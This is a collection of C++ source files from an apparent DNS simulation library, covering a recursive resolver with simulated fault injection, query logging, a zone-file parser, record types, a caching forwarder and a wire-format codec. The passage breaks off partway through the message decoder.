  std::size_t referrals = 0;       // delegation hops followed
  std::size_t cache_hits = 0;
  std::size_t answers_from_cache = 0;

  // Fault-injection accounting (all zero when no plan is attached).
  std::size_t injected_servfail = 0;
  std::size_t injected_timeouts = 0;
  std::size_t injected_lame = 0;
  std::size_t retries = 0;  // re-resolutions after an injected fault
};

class RecursiveResolver {
 public:
  // `root_nameserver` must be registered in `registry`; both must outlive
  // the resolver.
  RecursiveResolver(const NameServerRegistry& registry,
                    const Name& root_nameserver, const util::SimClock& clock,
                    util::IpAddress client_address);

  // Resolve iteratively from the root, following referrals. Rcode::ServFail
  // on a broken delegation (lame, looping, or unreachable nameserver).
  ResolveResult resolve(const Name& qname, RRType qtype);

  // Attach a fault plan: resolutions then face injected SERVFAILs, timeouts
  // and lame delegations (keyed by qname/qtype/attempt — pure, so identical
  // on every thread), each retried up to `retry.max_attempts` resolutions.
  // Injection models the network, so cached answers never fault, and faulted
  // attempts are never cached. The resolver holds a const clock, so a
  // timeout cannot advance time here — it is surfaced as a late SERVFAIL and
  // counted in stats().injected_timeouts. Pass nullptr to detach.
  void inject_faults(const faults::FaultPlan* plan,
                     faults::RetryConfig retry = {});

  const RecursiveStats& stats() const noexcept { return stats_; }
  void flush_cache() { answer_cache_.clear(); delegation_cache_.clear(); }

  // The wire transport referral-chase hops cross (one exchange per
  // authoritative server contacted).
  net::Transport& transport() noexcept { return transport_; }
  const net::Transport& transport() const noexcept { return transport_; }

 private:
  struct CachedAnswer {
    util::SimTime expires = 0;
    ResolveResult result;
  };

  // One referral chase from the best-known starting server. `lame` forces
  // the delegation walk to dead-end (an injected lame delegation).
  ResolveResult resolve_once(const Name& qname, RRType qtype,
                             const std::pair<Name, RRType>& cache_key,
                             bool lame);

  const NameServerRegistry& registry_;
  Name root_;
  const util::SimClock& clock_;
  net::Transport transport_;
  util::IpAddress client_;
  net::Endpoint self_;
  std::uint16_t next_id_ = 1;
  RecursiveStats stats_;
  std::map<std::pair<Name, RRType>, CachedAnswer> answer_cache_;
  // Learned delegations: zone apex -> nameserver host.
  std::map<Name, Name> delegation_cache_;
  faults::RetryPolicy retry_;
};

}  // namespace spfail::dns
