#include "dns/query_log.hpp"

namespace spfail::dns {

std::vector<QueryLogEntry> QueryLog::under(const Name& suffix) const {
  std::vector<QueryLogEntry> out;
  for (const auto& e : entries_) {
    if (e.qname.is_subdomain_of(suffix)) out.push_back(e);
  }
  return out;
}

std::vector<QueryLogEntry> QueryLog::matching(
    const std::function<bool(const QueryLogEntry&)>& pred) const {
  std::vector<QueryLogEntry> out;
  for (const auto& e : entries_) {
    if (pred(e)) out.push_back(e);
  }
  return out;
}

}  // namespace spfail::dns
