#include "dns/query_log.hpp"

namespace spfail::dns {

std::vector<QueryLogEntry> QueryLog::entries() const {
  std::vector<QueryLogEntry> out;
  out.reserve(entries_.size());
  for (const Compact& e : entries_) out.push_back(materialise(e));
  return out;
}

std::vector<QueryLogEntry> QueryLog::under(const Name& suffix) const {
  std::vector<QueryLogEntry> out;
  for_each_under(suffix, [&out](QueryLogEntry e) { out.push_back(std::move(e)); });
  return out;
}

void QueryLog::splice(QueryLog&& other) {
  const std::vector<util::Symbol> remap = names_.merge(other.names_);
  entries_.reserve(entries_.size() + other.entries_.size());
  for (const Compact& e : other.entries_) {
    entries_.push_back(Compact{e.time, e.client, remap[e.qname], e.qtype});
  }
  other.entries_.clear();
  other.names_ = util::Interner();
}

std::vector<QueryLogEntry> QueryLog::matching(
    const std::function<bool(const QueryLogEntry&)>& pred) const {
  std::vector<QueryLogEntry> out;
  for (const Compact& e : entries_) {
    QueryLogEntry full = materialise(e);
    if (pred(full)) out.push_back(std::move(full));
  }
  return out;
}

}  // namespace spfail::dns
