#include "dns/query_log.hpp"

namespace spfail::dns {

std::vector<QueryLogEntry> QueryLog::under(const Name& suffix) const {
  std::vector<QueryLogEntry> out;
  for_each_under(suffix, [&out](const QueryLogEntry& e) { out.push_back(e); });
  return out;
}

void QueryLog::splice(QueryLog&& other) {
  if (entries_.empty()) {
    entries_ = std::move(other.entries_);
  } else {
    entries_.insert(entries_.end(),
                    std::make_move_iterator(other.entries_.begin()),
                    std::make_move_iterator(other.entries_.end()));
  }
  other.entries_.clear();
}

std::vector<QueryLogEntry> QueryLog::matching(
    const std::function<bool(const QueryLogEntry&)>& pred) const {
  std::vector<QueryLogEntry> out;
  for (const auto& e : entries_) {
    if (pred(e)) out.push_back(e);
  }
  return out;
}

}  // namespace spfail::dns
