// RFC 1035 master-file parser (a practical subset).
//
// Supports: $ORIGIN and $TTL directives; '@' for the origin; relative and
// absolute owner names; blank-owner continuation (reuse the previous owner);
// ';' comments; quoted (and multi-) character-strings for TXT; the record
// types the library models (A, AAAA, MX, TXT, CNAME, NS, PTR, SOA).
// Not supported: parentheses line continuation, $INCLUDE, \-escapes.
//
// This is how examples and tests express zones without building records by
// hand, e.g.:
//
//   $ORIGIN example.com.
//   $TTL 300
//   @        IN TXT   "v=spf1 mx -all"
//   @        IN MX 10 mx1
//   mx1      IN A     192.0.2.25
#pragma once

#include <stdexcept>
#include <string_view>

#include "dns/zone.hpp"

namespace spfail::dns {

class ZoneFileError : public std::runtime_error {
 public:
  using std::runtime_error::runtime_error;
};

// Parse the zone text. `default_origin` applies until a $ORIGIN directive.
// Throws ZoneFileError with a line number on malformed input.
Zone parse_zone_text(std::string_view text, const Name& default_origin);

}  // namespace spfail::dns
