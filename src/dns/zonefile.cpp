#include "dns/zonefile.hpp"

#include <cctype>
#include <vector>

#include "util/strings.hpp"

namespace spfail::dns {

namespace {

// Tokenise one line: whitespace-separated fields, '"' quoting for character
// strings, ';' starts a comment. A leading-whitespace marker token "" is
// prepended when the line starts with blank space (blank owner field).
std::vector<std::string> tokenize(std::string_view line, std::size_t line_no) {
  std::vector<std::string> tokens;
  std::size_t i = 0;
  if (!line.empty() && (line[0] == ' ' || line[0] == '\t')) {
    tokens.emplace_back();  // blank-owner marker
  }
  while (i < line.size()) {
    const char c = line[i];
    if (c == ' ' || c == '\t') {
      ++i;
      continue;
    }
    if (c == ';') break;  // comment
    if (c == '"') {
      const std::size_t close = line.find('"', i + 1);
      if (close == std::string_view::npos) {
        throw ZoneFileError("line " + std::to_string(line_no) +
                            ": unterminated quoted string");
      }
      tokens.emplace_back(line.substr(i + 1, close - i - 1));
      i = close + 1;
      continue;
    }
    std::size_t end = i;
    while (end < line.size() && line[end] != ' ' && line[end] != '\t' &&
           line[end] != ';') {
      ++end;
    }
    tokens.emplace_back(line.substr(i, end - i));
    i = end;
  }
  return tokens;
}

Name resolve_name(const std::string& token, const Name& origin,
                  std::size_t line_no) {
  if (token == "@") return origin;
  try {
    if (!token.empty() && token.back() == '.') {
      return Name::from_string(token);
    }
    // Relative: append the origin.
    if (origin.empty()) return Name::from_string(token);
    return Name::from_string(token + "." + origin.to_string());
  } catch (const std::invalid_argument& e) {
    throw ZoneFileError("line " + std::to_string(line_no) + ": " + e.what());
  }
}

std::uint32_t parse_u32(const std::string& token, std::size_t line_no) {
  std::uint64_t value = 0;
  if (token.empty()) {
    throw ZoneFileError("line " + std::to_string(line_no) + ": empty number");
  }
  for (char c : token) {
    if (!std::isdigit(static_cast<unsigned char>(c))) {
      throw ZoneFileError("line " + std::to_string(line_no) +
                          ": malformed number '" + token + "'");
    }
    value = value * 10 + static_cast<std::uint64_t>(c - '0');
    if (value > 0xFFFFFFFFULL) {
      throw ZoneFileError("line " + std::to_string(line_no) +
                          ": number out of range");
    }
  }
  return static_cast<std::uint32_t>(value);
}

}  // namespace

Zone parse_zone_text(std::string_view text, const Name& default_origin) {
  Name origin = default_origin;
  std::uint32_t default_ttl = 300;
  Zone zone(default_origin);
  Name previous_owner = default_origin;

  std::size_t line_no = 0;
  for (const auto& raw_line : util::split(text, '\n')) {
    ++line_no;
    auto tokens = tokenize(raw_line, line_no);
    if (tokens.empty()) continue;

    // Directives.
    if (tokens[0] == "$ORIGIN") {
      if (tokens.size() != 2) {
        throw ZoneFileError("line " + std::to_string(line_no) +
                            ": $ORIGIN needs one argument");
      }
      origin = resolve_name(tokens[1], Name::root(), line_no);
      continue;
    }
    if (tokens[0] == "$TTL") {
      if (tokens.size() != 2) {
        throw ZoneFileError("line " + std::to_string(line_no) +
                            ": $TTL needs one argument");
      }
      default_ttl = parse_u32(tokens[1], line_no);
      continue;
    }

    // Owner (blank marker means "reuse previous").
    std::size_t field = 0;
    Name owner;
    if (tokens[0].empty()) {
      owner = previous_owner;
      field = 1;
    } else {
      owner = resolve_name(tokens[field++], origin, line_no);
      previous_owner = owner;
    }

    // Optional TTL and/or class, in either order.
    std::uint32_t ttl = default_ttl;
    while (field < tokens.size()) {
      const std::string& token = tokens[field];
      if (token == "IN") {
        ++field;
        continue;
      }
      if (!token.empty() &&
          std::isdigit(static_cast<unsigned char>(token[0]))) {
        ttl = parse_u32(token, line_no);
        ++field;
        continue;
      }
      break;
    }
    if (field >= tokens.size()) {
      throw ZoneFileError("line " + std::to_string(line_no) +
                          ": missing record type");
    }
    const std::string type = util::to_lower(tokens[field++]);
    const auto need = [&](std::size_t n) {
      if (tokens.size() - field < n) {
        throw ZoneFileError("line " + std::to_string(line_no) +
                            ": not enough rdata fields for " + type);
      }
    };

    ResourceRecord record;
    record.name = owner;
    record.ttl = ttl;
    if (type == "a") {
      need(1);
      const auto ip = util::IpAddress::parse(tokens[field]);
      if (!ip.has_value() || !ip->is_v4()) {
        throw ZoneFileError("line " + std::to_string(line_no) +
                            ": bad A address");
      }
      record.type = RRType::A;
      record.rdata = ARdata{*ip};
    } else if (type == "aaaa") {
      need(1);
      const auto ip = util::IpAddress::parse(tokens[field]);
      if (!ip.has_value() || !ip->is_v6()) {
        throw ZoneFileError("line " + std::to_string(line_no) +
                            ": bad AAAA address");
      }
      record.type = RRType::AAAA;
      record.rdata = AaaaRdata{*ip};
    } else if (type == "mx") {
      need(2);
      MxRdata mx;
      mx.preference = static_cast<std::uint16_t>(
          parse_u32(tokens[field], line_no));
      mx.exchange = resolve_name(tokens[field + 1], origin, line_no);
      record.type = RRType::MX;
      record.rdata = mx;
    } else if (type == "txt") {
      need(1);
      TxtRdata txt;
      for (std::size_t i = field; i < tokens.size(); ++i) {
        txt.strings.push_back(tokens[i]);
      }
      record.type = RRType::TXT;
      record.rdata = txt;
    } else if (type == "cname") {
      need(1);
      record.type = RRType::CNAME;
      record.rdata = CnameRdata{resolve_name(tokens[field], origin, line_no)};
    } else if (type == "ns") {
      need(1);
      record.type = RRType::NS;
      record.rdata = NsRdata{resolve_name(tokens[field], origin, line_no)};
    } else if (type == "ptr") {
      need(1);
      record.type = RRType::PTR;
      record.rdata = PtrRdata{resolve_name(tokens[field], origin, line_no)};
    } else if (type == "soa") {
      need(7);
      SoaRdata soa;
      soa.mname = resolve_name(tokens[field], origin, line_no);
      soa.rname = resolve_name(tokens[field + 1], origin, line_no);
      soa.serial = parse_u32(tokens[field + 2], line_no);
      soa.refresh = parse_u32(tokens[field + 3], line_no);
      soa.retry = parse_u32(tokens[field + 4], line_no);
      soa.expire = parse_u32(tokens[field + 5], line_no);
      soa.minimum = parse_u32(tokens[field + 6], line_no);
      record.type = RRType::SOA;
      record.rdata = soa;
    } else {
      throw ZoneFileError("line " + std::to_string(line_no) +
                          ": unsupported record type '" + type + "'");
    }

    try {
      zone.add(std::move(record));
    } catch (const std::invalid_argument& e) {
      throw ZoneFileError("line " + std::to_string(line_no) + ": " + e.what());
    }
  }
  return zone;
}

}  // namespace spfail::dns
