#include "dns/recursive.hpp"

#include <algorithm>

#include "obs/lane.hpp"

namespace spfail::dns {

void NameServerRegistry::add(const Name& nameserver,
                             AuthoritativeServer& server) {
  servers_[nameserver] = &server;
}

AuthoritativeServer* NameServerRegistry::find(const Name& nameserver) const {
  const auto it = servers_.find(nameserver);
  return it == servers_.end() ? nullptr : it->second;
}

RecursiveResolver::RecursiveResolver(const NameServerRegistry& registry,
                                     const Name& root_nameserver,
                                     const util::SimClock& clock,
                                     util::IpAddress client_address)
    : registry_(registry),
      root_(root_nameserver),
      clock_(clock),
      transport_(clock),
      client_(std::move(client_address)),
      self_(net::Endpoint::ip(client_)) {}

void RecursiveResolver::inject_faults(const faults::FaultPlan* plan,
                                      faults::RetryConfig retry) {
  transport_.set_fault_plan(plan);
  // The campaign's zero sentinel has no greylist knobs to inherit here; a
  // plain resolver retries a couple of times before giving up.
  if (retry.max_attempts == 0) retry.max_attempts = 3;
  retry_ = faults::RetryPolicy(retry);
}

ResolveResult RecursiveResolver::resolve(const Name& qname, RRType qtype) {
  const auto cache_key = std::make_pair(qname, qtype);
  const auto cached = answer_cache_.find(cache_key);
  if (cached != answer_cache_.end() && cached->second.expires > clock_.now()) {
    ++stats_.cache_hits;
    ++stats_.answers_from_cache;
    obs::count("dns_cache_total",
               {{"component", "recursive"}, {"result", "hit"}});
    return cached->second.result;
  }
  obs::count("dns_cache_total",
             {{"component", "recursive"}, {"result", "miss"}});

  if (transport_.fault_plan() == nullptr ||
      !transport_.fault_plan()->enabled()) {
    return resolve_once(qname, qtype, cache_key, /*lame=*/false);
  }

  // Fault-injected path: each resolution attempt draws its own decision from
  // the transport (faults model the network; the cache lookup above never
  // faults).
  ResolveResult result;
  result.rcode = Rcode::ServFail;
  for (int tried = 0;;) {
    const faults::FaultDecision fault = transport_.next_dns_fault(qname, qtype);
    ++tried;
    bool faulted = true;
    switch (fault.kind) {
      case faults::FaultKind::DnsServfail:
        ++stats_.injected_servfail;
        break;
      case faults::FaultKind::DnsTimeout:
        // The resolver cannot advance the (const) clock; the timeout
        // surfaces as a late SERVFAIL and is only counted here.
        ++stats_.injected_timeouts;
        break;
      case faults::FaultKind::LameDelegation:
        ++stats_.injected_lame;
        break;
      default:
        faulted = false;
        break;
    }
    // None of the resolver's fault kinds reach a transport exchange (even
    // the lame-delegation chase dead-ends before one), so the injection is
    // booked here rather than in Transport.
    if (faulted) {
      obs::count("net_injected_total", {{"kind", to_string(fault.kind)}});
    }
    if (!faulted) {
      return resolve_once(qname, qtype, cache_key, /*lame=*/false);
    }
    if (fault.kind == faults::FaultKind::LameDelegation) {
      // The chase runs, burns queries, and dead-ends at the lame server.
      result = resolve_once(qname, qtype, cache_key, /*lame=*/true);
    }
    if (!retry_.allow_retry(tried, /*budget_left=*/1)) return result;
    ++stats_.retries;
    obs::count("dns_fault_retries_total", {{"component", "recursive"}});
  }
}

ResolveResult RecursiveResolver::resolve_once(
    const Name& qname, RRType qtype, const std::pair<Name, RRType>& cache_key,
    bool lame) {
  // An injected lame delegation: the chase reaches a server that is not
  // authoritative for the zone and offers no onward referral. One wasted
  // round-trip, then a dead end — nothing is cached.
  if (lame) {
    ++stats_.queries_sent;
    ++stats_.referrals;
    ResolveResult dead;
    dead.rcode = Rcode::ServFail;
    return dead;
  }

  // Start at the deepest delegation we already know about.
  Name current_server = root_;
  {
    Name probe = qname;
    while (!probe.empty()) {
      const auto known = delegation_cache_.find(probe);
      if (known != delegation_cache_.end()) {
        current_server = known->second;
        ++stats_.cache_hits;
        break;
      }
      probe = probe.parent();
    }
  }

  ResolveResult result;
  result.rcode = Rcode::ServFail;
  constexpr int kMaxHops = 16;
  for (int hop = 0; hop < kMaxHops; ++hop) {
    AuthoritativeServer* server = registry_.find(current_server);
    if (server == nullptr) return result;  // unreachable nameserver

    ++stats_.queries_sent;
    const Message query = Message::make_query(next_id_++, qname, qtype);
    const Message response =
        transport_.exchange(*server, query, self_,
                            net::Endpoint::named(current_server.to_string()),
                            client_);

    if (response.header.aa ||
        response.header.rcode != Rcode::NoError ||
        !response.answers.empty()) {
      // Authoritative data (or a terminal error): done.
      result.rcode = response.header.rcode;
      result.answers = response.answers;
      util::SimTime ttl = 300;
      for (const auto& rr : result.answers) {
        ttl = std::min<util::SimTime>(ttl, rr.ttl);
      }
      answer_cache_[cache_key] = CachedAnswer{clock_.now() + ttl, result};
      return result;
    }

    // Referral: follow the first NS whose server we can reach.
    ++stats_.referrals;
    bool followed = false;
    for (const auto& ns : response.authorities) {
      const auto* rdata = std::get_if<NsRdata>(&ns.rdata);
      if (rdata == nullptr) continue;
      if (registry_.find(rdata->nameserver) == nullptr) continue;
      if (rdata->nameserver == current_server) continue;  // lame loop guard
      delegation_cache_[ns.name] = rdata->nameserver;
      current_server = rdata->nameserver;
      followed = true;
      break;
    }
    if (!followed) return result;  // dead-end referral
  }
  return result;  // too many hops
}

}  // namespace spfail::dns
