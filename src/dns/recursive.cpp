#include "dns/recursive.hpp"

#include <algorithm>

namespace spfail::dns {

void NameServerRegistry::add(const Name& nameserver,
                             AuthoritativeServer& server) {
  servers_[nameserver] = &server;
}

AuthoritativeServer* NameServerRegistry::find(const Name& nameserver) const {
  const auto it = servers_.find(nameserver);
  return it == servers_.end() ? nullptr : it->second;
}

RecursiveResolver::RecursiveResolver(const NameServerRegistry& registry,
                                     const Name& root_nameserver,
                                     const util::SimClock& clock,
                                     util::IpAddress client_address)
    : registry_(registry),
      root_(root_nameserver),
      clock_(clock),
      client_(std::move(client_address)) {}

ResolveResult RecursiveResolver::resolve(const Name& qname, RRType qtype) {
  const auto cache_key = std::make_pair(qname, qtype);
  const auto cached = answer_cache_.find(cache_key);
  if (cached != answer_cache_.end() && cached->second.expires > clock_.now()) {
    ++stats_.cache_hits;
    ++stats_.answers_from_cache;
    return cached->second.result;
  }

  // Start at the deepest delegation we already know about.
  Name current_server = root_;
  {
    Name probe = qname;
    while (!probe.empty()) {
      const auto known = delegation_cache_.find(probe);
      if (known != delegation_cache_.end()) {
        current_server = known->second;
        ++stats_.cache_hits;
        break;
      }
      probe = probe.parent();
    }
  }

  ResolveResult result;
  result.rcode = Rcode::ServFail;
  constexpr int kMaxHops = 16;
  for (int hop = 0; hop < kMaxHops; ++hop) {
    AuthoritativeServer* server = registry_.find(current_server);
    if (server == nullptr) return result;  // unreachable nameserver

    ++stats_.queries_sent;
    const Message query = Message::make_query(next_id_++, qname, qtype);
    const Message response =
        server->handle(decode(encode(query)), client_, clock_.now());

    if (response.header.aa ||
        response.header.rcode != Rcode::NoError ||
        !response.answers.empty()) {
      // Authoritative data (or a terminal error): done.
      result.rcode = response.header.rcode;
      result.answers = response.answers;
      util::SimTime ttl = 300;
      for (const auto& rr : result.answers) {
        ttl = std::min<util::SimTime>(ttl, rr.ttl);
      }
      answer_cache_[cache_key] = CachedAnswer{clock_.now() + ttl, result};
      return result;
    }

    // Referral: follow the first NS whose server we can reach.
    ++stats_.referrals;
    bool followed = false;
    for (const auto& ns : response.authorities) {
      const auto* rdata = std::get_if<NsRdata>(&ns.rdata);
      if (rdata == nullptr) continue;
      if (registry_.find(rdata->nameserver) == nullptr) continue;
      if (rdata->nameserver == current_server) continue;  // lame loop guard
      delegation_cache_[ns.name] = rdata->nameserver;
      current_server = rdata->nameserver;
      followed = true;
      break;
    }
    if (!followed) return result;  // dead-end referral
  }
  return result;  // too many hops
}

}  // namespace spfail::dns
