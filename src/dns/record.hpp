// DNS resource records and rdata (RFC 1035, RFC 3596).
//
// Only the types the SPF ecosystem touches get first-class rdata
// representations: A, AAAA, MX, TXT, CNAME, NS, SOA. Everything else can be
// carried opaquely.
#pragma once

#include <cstdint>
#include <string>
#include <variant>
#include <vector>

#include "dns/name.hpp"
#include "util/ip.hpp"

namespace spfail::dns {

enum class RRType : std::uint16_t {
  A = 1,
  NS = 2,
  CNAME = 5,
  SOA = 6,
  PTR = 12,
  MX = 15,
  TXT = 16,
  AAAA = 28,
  ANY = 255,
};

enum class RRClass : std::uint16_t { IN = 1 };

std::string to_string(RRType type);

struct ARdata {
  util::IpAddress address;  // must be v4
  friend bool operator==(const ARdata&, const ARdata&) = default;
};

struct AaaaRdata {
  util::IpAddress address;  // must be v6
  friend bool operator==(const AaaaRdata&, const AaaaRdata&) = default;
};

struct MxRdata {
  std::uint16_t preference = 0;
  Name exchange;
  friend bool operator==(const MxRdata&, const MxRdata&) = default;
};

// A TXT record is a sequence of <=255-octet character strings; SPF policies
// longer than 255 octets are split across strings and re-concatenated by the
// validator (RFC 7208 section 3.3).
struct TxtRdata {
  std::vector<std::string> strings;

  // The concatenation the SPF validator sees.
  std::string joined() const;
  // Split `text` into 255-octet chunks.
  static TxtRdata from_text(std::string_view text);

  friend bool operator==(const TxtRdata&, const TxtRdata&) = default;
};

struct CnameRdata {
  Name target;
  friend bool operator==(const CnameRdata&, const CnameRdata&) = default;
};

struct NsRdata {
  Name nameserver;
  friend bool operator==(const NsRdata&, const NsRdata&) = default;
};

struct SoaRdata {
  Name mname;
  Name rname;
  std::uint32_t serial = 0;
  std::uint32_t refresh = 0;
  std::uint32_t retry = 0;
  std::uint32_t expire = 0;
  std::uint32_t minimum = 0;
  friend bool operator==(const SoaRdata&, const SoaRdata&) = default;
};

struct PtrRdata {
  Name target;
  friend bool operator==(const PtrRdata&, const PtrRdata&) = default;
};

struct OpaqueRdata {
  std::vector<std::uint8_t> bytes;
  friend bool operator==(const OpaqueRdata&, const OpaqueRdata&) = default;
};

using Rdata = std::variant<ARdata, AaaaRdata, MxRdata, TxtRdata, CnameRdata,
                           NsRdata, SoaRdata, PtrRdata, OpaqueRdata>;

struct ResourceRecord {
  Name name;
  RRType type = RRType::A;
  RRClass rrclass = RRClass::IN;
  std::uint32_t ttl = 300;
  Rdata rdata;

  friend bool operator==(const ResourceRecord&, const ResourceRecord&) = default;

  // Convenience factories used pervasively by zone setup and tests.
  static ResourceRecord a(const Name& name, util::IpAddress ip,
                          std::uint32_t ttl = 300);
  static ResourceRecord aaaa(const Name& name, util::IpAddress ip,
                             std::uint32_t ttl = 300);
  static ResourceRecord mx(const Name& name, std::uint16_t pref,
                           const Name& exchange, std::uint32_t ttl = 300);
  static ResourceRecord txt(const Name& name, std::string_view text,
                            std::uint32_t ttl = 300);
  static ResourceRecord cname(const Name& name, const Name& target,
                              std::uint32_t ttl = 300);
};

}  // namespace spfail::dns
