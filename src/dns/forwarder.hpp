// A caching DNS forwarder: the "site recursive resolver" many MTAs share.
//
// It implements DnsService, so a simulated MailHost can be pointed at it
// instead of directly at the authoritative server — queries it has seen
// recently are answered from cache and never reach the authority. This is
// precisely the measurement hazard §5.1's unique per-test labels neutralise,
// and bench_ablation_labels quantifies it.
#pragma once

#include <map>

#include "dns/server.hpp"
#include "faults/fault.hpp"
#include "faults/retry.hpp"
#include "net/transport.hpp"
#include "util/clock.hpp"

namespace spfail::dns {

class CachingForwarder : public DnsService {
 public:
  // `upstream` and `clock` must outlive the forwarder.
  CachingForwarder(DnsService& upstream, const util::SimClock& clock)
      : upstream_(upstream),
        clock_(clock),
        transport_(clock),
        self_(net::Endpoint::named("forwarder")),
        upstream_endpoint_(net::Endpoint::named("upstream")) {}

  Message handle(const Message& query, const util::IpAddress& client,
                 util::SimTime now) override;

  // Attach a fault plan: upstream queries (cache hits are local and never
  // fault) face injected SERVFAILs/timeouts, retried per `retry`. Faulted
  // answers are never cached, so a later query can still succeed. Pass
  // nullptr to detach.
  void inject_faults(const faults::FaultPlan* plan,
                     faults::RetryConfig retry = {});

  std::size_t cache_hits() const noexcept { return cache_hits_; }
  std::size_t upstream_queries() const noexcept { return upstream_queries_; }
  std::size_t injected_faults() const noexcept { return injected_faults_; }
  std::size_t fault_retries() const noexcept { return fault_retries_; }
  void flush() { cache_.clear(); }

  // The wire transport upstream queries (and faulted attempts) cross.
  net::Transport& transport() noexcept { return transport_; }
  const net::Transport& transport() const noexcept { return transport_; }

 private:
  struct Entry {
    util::SimTime expires = 0;
    Message response;  // id is rewritten per client query
  };

  DnsService& upstream_;
  const util::SimClock& clock_;
  net::Transport transport_;
  net::Endpoint self_;
  net::Endpoint upstream_endpoint_;
  std::map<std::pair<Name, RRType>, Entry> cache_;
  std::size_t cache_hits_ = 0;
  std::size_t upstream_queries_ = 0;
  faults::RetryPolicy retry_;
  std::size_t injected_faults_ = 0;
  std::size_t fault_retries_ = 0;
};

}  // namespace spfail::dns
