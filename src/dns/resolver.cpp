#include "dns/resolver.hpp"

#include <algorithm>

namespace spfail::dns {

namespace {

constexpr util::SimTime kNegativeTtl = 300;

}  // namespace

ResolveResult StubResolver::query(const Name& qname, RRType qtype) {
  const auto key = std::make_pair(qname, qtype);
  if (cache_enabled_) {
    const auto it = cache_.find(key);
    if (it != cache_.end() && it->second.expires > clock_.now()) {
      ++cache_hits_;
      return it->second.result;
    }
  }
  ++cache_misses_;

  // The transport round-trips the query through the wire codec, applies any
  // attached fault plan, and traces both directions.
  const Message query_msg = Message::make_query(next_id_++, qname, qtype);
  const Message response = transport_.exchange_with_faults(
      service_, query_msg, self_, upstream_, client_);

  ResolveResult result;
  result.rcode = response.header.rcode;
  result.answers = response.answers;

  if (cache_enabled_) {
    util::SimTime ttl = kNegativeTtl;
    for (const auto& rr : result.answers) {
      ttl = std::min<util::SimTime>(ttl, rr.ttl);
    }
    cache_[key] = CacheEntry{clock_.now() + ttl, result};
  }
  return result;
}

std::vector<util::IpAddress> StubResolver::addresses(const Name& qname) {
  std::vector<util::IpAddress> out;
  for (const RRType type : {RRType::A, RRType::AAAA}) {
    const ResolveResult result = query(qname, type);
    for (const auto& rr : result.answers) {
      if (const auto* a = std::get_if<ARdata>(&rr.rdata)) {
        out.push_back(a->address);
      } else if (const auto* aaaa = std::get_if<AaaaRdata>(&rr.rdata)) {
        out.push_back(aaaa->address);
      }
    }
  }
  return out;
}

std::vector<MxRdata> StubResolver::mx(const Name& qname) {
  std::vector<MxRdata> out;
  const ResolveResult result = query(qname, RRType::MX);
  for (const auto& rr : result.answers) {
    if (const auto* mx = std::get_if<MxRdata>(&rr.rdata)) out.push_back(*mx);
  }
  std::sort(out.begin(), out.end(), [](const MxRdata& a, const MxRdata& b) {
    return a.preference < b.preference;
  });
  return out;
}

std::vector<std::string> StubResolver::txt(const Name& qname) {
  std::vector<std::string> out;
  const ResolveResult result = query(qname, RRType::TXT);
  for (const auto& rr : result.answers) {
    if (const auto* txt = std::get_if<TxtRdata>(&rr.rdata)) {
      out.push_back(txt->joined());
    }
  }
  return out;
}

}  // namespace spfail::dns
