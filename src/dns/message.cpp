#include "dns/message.hpp"

#include <map>

#include "util/strings.hpp"

namespace spfail::dns {

std::string to_string(Rcode rcode) {
  switch (rcode) {
    case Rcode::NoError:
      return "NOERROR";
    case Rcode::FormErr:
      return "FORMERR";
    case Rcode::ServFail:
      return "SERVFAIL";
    case Rcode::NxDomain:
      return "NXDOMAIN";
    case Rcode::NotImp:
      return "NOTIMP";
    case Rcode::Refused:
      return "REFUSED";
  }
  return "RCODE" + std::to_string(static_cast<int>(rcode));
}

Message Message::make_query(std::uint16_t id, const Name& qname, RRType qtype) {
  Message m;
  m.header.id = id;
  m.header.rd = true;
  m.questions.push_back(Question{qname, qtype, RRClass::IN});
  return m;
}

Message Message::make_response(const Message& query, Rcode rcode) {
  Message m;
  m.header.id = query.header.id;
  m.header.qr = true;
  m.header.aa = true;
  m.header.rd = query.header.rd;
  m.header.rcode = rcode;
  m.questions = query.questions;
  return m;
}

namespace {

class Encoder {
 public:
  std::vector<std::uint8_t> take() && { return std::move(buf_); }

  void u8(std::uint8_t v) { buf_.push_back(v); }
  void u16(std::uint16_t v) {
    buf_.push_back(static_cast<std::uint8_t>(v >> 8));
    buf_.push_back(static_cast<std::uint8_t>(v));
  }
  void u32(std::uint32_t v) {
    u16(static_cast<std::uint16_t>(v >> 16));
    u16(static_cast<std::uint16_t>(v));
  }
  void bytes(const std::uint8_t* data, std::size_t n) {
    buf_.insert(buf_.end(), data, data + n);
  }
  void text(std::string_view s) {
    bytes(reinterpret_cast<const std::uint8_t*>(s.data()), s.size());
  }

  std::size_t size() const { return buf_.size(); }
  void patch_u16(std::size_t offset, std::uint16_t v) {
    buf_[offset] = static_cast<std::uint8_t>(v >> 8);
    buf_[offset + 1] = static_cast<std::uint8_t>(v);
  }

  // Encode a name with compression against previously written names.
  void name(const Name& n) {
    const auto& labels = n.labels();
    for (std::size_t i = 0; i < labels.size(); ++i) {
      // Presentation form of the remaining suffix, used as the compression key.
      std::string suffix;
      for (std::size_t j = i; j < labels.size(); ++j) {
        if (j > i) suffix.push_back('.');
        suffix += labels[j];
      }
      const auto it = offsets_.find(suffix);
      if (it != offsets_.end() && it->second < 0x3FFF) {
        u16(static_cast<std::uint16_t>(0xC000 | it->second));
        return;
      }
      if (size() < 0x3FFF) offsets_.emplace(suffix, size());
      if (labels[i].size() > 63) {
        throw WireError("label exceeds 63 octets on encode: " + labels[i]);
      }
      u8(static_cast<std::uint8_t>(labels[i].size()));
      text(labels[i]);
    }
    u8(0);  // root label
  }

 private:
  std::vector<std::uint8_t> buf_;
  std::map<std::string, std::size_t> offsets_;
};

class Decoder {
 public:
  explicit Decoder(const std::vector<std::uint8_t>& wire) : wire_(wire) {}

  std::uint8_t u8() {
    ensure(1);
    return wire_[pos_++];
  }
  std::uint16_t u16() {
    const std::uint16_t hi = u8();
    return static_cast<std::uint16_t>((hi << 8) | u8());
  }
  std::uint32_t u32() {
    const std::uint32_t hi = u16();
    return (hi << 16) | u16();
  }
  std::string text(std::size_t n) {
    ensure(n);
    std::string out(reinterpret_cast<const char*>(wire_.data() + pos_), n);
    pos_ += n;
    return out;
  }

  std::size_t pos() const { return pos_; }
  void seek(std::size_t p) { pos_ = p; }
  std::size_t remaining() const { return wire_.size() - pos_; }

  Name name() {
    std::vector<std::string> labels;
    std::size_t jumps = 0;
    std::size_t return_pos = 0;
    bool jumped = false;
    while (true) {
      const std::uint8_t len = u8();
      if (len == 0) break;
      if ((len & 0xC0) == 0xC0) {
        if (++jumps > 64) throw WireError("compression pointer loop");
        const std::size_t target =
            (static_cast<std::size_t>(len & 0x3F) << 8) | u8();
